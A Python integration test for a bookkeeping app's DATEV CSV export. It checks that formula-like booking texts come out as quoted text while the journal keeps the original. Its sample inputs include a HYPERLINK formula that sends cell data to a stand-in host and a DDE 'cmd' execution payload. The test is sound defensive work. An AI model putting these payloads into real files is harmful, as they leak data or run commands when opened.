"""The DATEV export through the API: what a client booked as a formula comes out as text (issue 14,
item 3), in a file that still meets DATEV's column rules (tests/unit/formats/test_datev_csv_injection.py)."""

from __future__ import annotations

from typing import Any

from ledgerlou.formats import datev

from tests.integration.periods.test_closing import book
from tests.unit.formats.test_datev_csv_injection import check_extf_cells


def test_given_bookings_whose_text_and_reference_start_like_formulas_then_the_export_writes_them_as_text(
        client: Any) -> None:
    # Given bookings as an attacker (or a careless import) would make them
    payloads = [('=HYPERLINK("http://x.example/?"&A1;"Beleg")', "=1+2"), ("+cmd|' /C calc'!A0", "+49301234"),
                ("-2+3", "-5"), ("@SUM(1+1)", "@A1"), ("\t=1+2", "RE-4711")]
    for i, (text, ref) in enumerate(payloads):
        resp = book(client, f"2026-01-{10 + i}", "4930", "1200", f"{i + 1}19.00", description=text,
                    external_reference=ref)
        assert resp.status == 201, resp.body
    # When January is exported to DATEV
    resp = client.get("/v1/reports/datev-export?startDate=2026-01-01&endDate=2026-01-31")
    assert resp.status == 200, resp.body[:300]
    # Then the file meets DATEV's column rules and no cell of it runs as a formula
    rows = check_extf_cells(resp.body, datev.ENCODING)
    text_col, ref_col = datev.COLUMN_HEADINGS.index("Buchungstext"), datev.COLUMN_HEADINGS.index("Belegfeld 1")
    assert [r[text_col] for r in rows] == ['\'=HYPERLINK("http://x.example/?"&A1;"Beleg")', "'+cmd|' /C calc'!A0",
                                           "'-2+3", "'@SUM(1+1)", "'=1+2"]  # the booking strips the TAB
    assert [r[ref_col] for r in rows] == ["1-2", "49301234", "5", "A1", "RE-4711"]
    # and the amounts are the unsigned numbers booked, S/H beside them
    assert [(r[0], r[1]) for r in rows] == [(f"{i + 1}19,00", "S") for i in range(len(payloads))]
    # while the journal keeps what was booked (GoBD): the neutralising is the export's, not the ledger's
    described = {e["description"] for e in client.get("/v1/journal").json()["entries"]}
    assert {t.strip() for t, _ in payloads} <= described
